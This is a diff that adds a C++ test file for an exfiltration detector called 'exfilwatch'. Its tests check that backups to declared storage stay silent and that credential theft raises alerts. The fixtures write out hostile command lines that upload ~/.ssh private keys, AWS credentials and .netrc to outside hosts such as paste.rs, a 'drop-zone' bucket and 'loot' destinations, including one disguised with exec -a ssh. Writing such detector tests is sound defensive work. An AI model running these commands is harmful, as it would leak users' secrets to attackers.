@@ -1,0 +1,170 @@
+// Tests the engine with the everyday rules of issue 13: own storage declared in the rules (a
+// declared tool to a declared destination stays under the threshold, anywhere else it does not),
+// credentials named as a tool's own option (ssh -i KEY) are use, and identity comes from the
+// executable (exec -a ssh curl is curl).
+#include <doctest/doctest.h>
+
+#include "timeline.hpp"
+
+using namespace exfilwatch;
+using namespace exfilwatch::detect;
+using namespace exfilwatch::detect::test;
+
+namespace {
+
+Rules with_own_storage()
+{
+    auto loaded = load_rules(std::string(builtin_rules_yaml) + R"(
+own_storage:
+  tools: [rclone, aws, s3cmd, restic]
+  destinations:
+    - s3.amazonaws.com/own-backups
+    - {domain: backblazeb2.com, remote: b2, path: own/}
+)",
+                             "own.yaml");
+    if (auto* e = std::get_if<RulesError>(&loaded)) throw std::runtime_error(e->to_string());
+    return std::get<Rules>(std::move(loaded));
+}
+
+bool has_signal(const Alert& a, std::string_view name)
+{
+    return std::any_of(a.signals.begin(), a.signals.end(), [&](const Signal& s) { return s.name == name; });
+}
+
+}  // namespace
+
+TEST_CASE("own storage: tar of the home directory to the declared bucket is silent, to another bucket it alerts")
+{
+    for (bool declared : {true, false}) {
+        CAPTURE(declared);
+        Timeline tl(with_own_storage());
+        std::string bucket = declared ? "s3://own-backups/host1/home.tgz" : "s3://drop-zone/home.tgz";
+        auto tar = tl.spawn(tl.shell, {"tar", "czf", "-", home}, {}, 0, 0, 77);
+        auto aws = tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", "-", bucket},
+                            "/usr/bin/python3.11", 0, 77);
+        tl.read(tar, home + "/.ssh/id_ed25519", 420);
+        tl.read(tar, home + "/.aws/credentials", 2100);
+        tl.read(tar, home + "/Documents/plan.pdf", 900'000);
+        tl.read(aws, home + "/.aws/credentials", 2100);
+        tl.transfer(aws, declared ? "own-backups.s3.amazonaws.com" : "drop-zone.s3.amazonaws.com", 700'000, 9000);
+        if (declared) {
+            CHECK(tl.alerts.empty());
+        } else {
+            const auto* a = tl.find("T1567.002");
+            REQUIRE(a != nullptr);
+            CHECK_FALSE(has_signal(*a, "own-storage"));
+        }
+    }
+}
+
+TEST_CASE("own storage: a declared bucket reached through another endpoint is not own storage")
+{
+    Timeline tl(with_own_storage());
+    auto aws = tl.spawn(tl.shell,
+                        {"/usr/bin/python3", "/usr/bin/aws", "--endpoint-url", "https://storage.googleapis.com", "s3",
+                         "cp", home + "/.ssh/id_ed25519", "s3://own-backups/k"},
+                        "/usr/bin/python3.11");
+    tl.read(aws, home + "/.ssh/id_ed25519", 420);
+    tl.transfer(aws, "storage.googleapis.com", 420 + 1500, 900);
+    CHECK(tl.find("T1567.002") != nullptr);
+}
+
+TEST_CASE("own storage: rclone sync to the declared b2 remote is silent; the same rclone to an undeclared remote alerts")
+{
+    {
+        Timeline tl(with_own_storage());
+        auto rc = tl.spawn(tl.shell, {"rclone", "sync", home + "/Documents", "b2:own/docs", "--config", "/etc/rclone.conf"});
+        tl.read(rc, home + "/Documents/a.pdf", 400'000);
+        tl.read(rc, home + "/Documents/a.pdf", 400'000);  // rclone reads each file twice (hash, then upload)
+        tl.transfer(rc, "api.backblazeb2.com", 420'000, 20'000);
+        CHECK(tl.alerts.empty());
+    }
+    {
+        Timeline tl(with_own_storage());
+        auto rc = tl.spawn(tl.shell, {"rclone", "copy", home + "/.ssh", "drop:loot", "--config", "/etc/rclone.conf"});
+        tl.read(rc, home + "/.ssh/id_ed25519", 420);
+        tl.read(rc, home + "/.ssh/id_ed25519", 420);
+        tl.transfer(rc, "content.dropboxapi.com", 420 + 2500, 3000);
+        const auto* a = tl.find("T1567.002");
+        REQUIRE(a != nullptr);
+        CHECK(has_signal(*a, "upload-command"));
+    }
+}
+
+TEST_CASE("ssh -i KEY / scp -i KEY authenticate with the key: use, not data; scp of the key itself alerts")
+{
+    {
+        Timeline tl;
+        auto scp = tl.spawn(tl.shell, {"scp", "-i", home + "/.ssh/id_ed25519", "build.tgz", "deploy@github.com:rel/"});
+        tl.read(scp, home + "/.ssh/id_ed25519", 420);
+        tl.read(scp, home + "/build.tgz", 40'000);
+        tl.transfer(scp, "github.com", 45'000, 4000);
+        CHECK(tl.alerts.empty());
+    }
+    {
+        Timeline tl;
+        auto scp = tl.spawn(tl.shell, {"scp", "-i", home + "/.ssh/id_ed25519", home + "/.ssh/id_ed25519",
+                                       "x@github.com:loot/"});
+        tl.read(scp, home + "/.ssh/id_ed25519", 420);
+        tl.transfer(scp, "github.com", 420 + 3500, 3000);
+        CHECK(tl.find("T1567.001") != nullptr);
+    }
+}
+
+TEST_CASE("exec -a ssh curl: curl is not an ssh-key consumer")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"ssh", "-sk", "--data-binary", "@-", "https://paste.rs/"}, "/usr/bin/curl");
+    tl.read(curl, home + "/.ssh/id_ed25519", 420);
+    tl.transfer(curl, "paste.rs", 420 + 900, 300);
+    const auto* a = tl.find("T1567.003");
+    REQUIRE(a != nullptr);
+    CHECK_FALSE(has_signal(*a, "credential-use"));
+}
+
+TEST_CASE("curl -K FILE: a credential curl reads while its arguments are in a file is data")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-sK", "/tmp/cfg", "https://paste.rs/"});
+    tl.read(curl, home + "/.netrc", 1800);
+    tl.transfer(curl, "paste.rs", 1800 + 900, 300);
+    CHECK(tl.find("T1567.003") != nullptr);
+}
+
+TEST_CASE("a provisioner rewriting /etc/hosts after reading a key does not stage it for later readers")
+{
+    for (std::string path : {"/etc/hosts", "/tmp/notes"}) {
+        CAPTURE(path);
+        Timeline tl;
+        auto prov = tl.spawn(tl.shell, {"python3", "-c", "provision()"}, "/usr/bin/python3.11");
+        tl.read(prov, home + "/.aws/credentials", 2100);
+        tl.open_write(prov, path, 5151);
+        tl.summary(prov, path, 0, 5151, true);
+        tl.exit(prov);
+        auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", path, "https://paste.rs/"});
+        tl.read(curl, path, 2400, 5151);
+        tl.transfer(curl, "paste.rs", 2400 + 900, 300);
+        if (path == "/etc/hosts") CHECK(tl.alerts.empty());
+        else CHECK(tl.find("T1567.003") != nullptr);
+    }
+}
+
+TEST_CASE("scp (a key consumer) naming the key as a file to copy sends it: the ssh child's upload alerts")
+{
+    for (bool leak : {false, true}) {
+        CAPTURE(leak);
+        Timeline tl;
+        std::vector<std::string> args{"scp", "-i", home + "/.ssh/id_ed25519"};
+        if (leak) args.push_back(home + "/.ssh/id_ed25519");
+        else args.push_back(home + "/build.tgz");
+        args.push_back("root@github.com:/tmp/x");
+        auto scp = tl.spawn(tl.shell, args);
+        auto ssh = tl.spawn(scp, {"/usr/bin/ssh", "-x", "-oForwardAgent=no", "-l", "root", "-i", home + "/.ssh/id_ed25519",
+                                  "-s", "--", "github.com", "sftp"});
+        tl.read(ssh, home + "/.ssh/id_ed25519", 420);
+        tl.read(scp, leak ? home + "/.ssh/id_ed25519" : home + "/build.tgz", leak ? 420 : 40'000);
+        tl.transfer(ssh, "github.com", leak ? 420 + 4000 : 44'000, 3500);
+        if (leak) CHECK(tl.find("T1567.001") != nullptr);
+        else CHECK(tl.alerts.empty());
+    }
+}
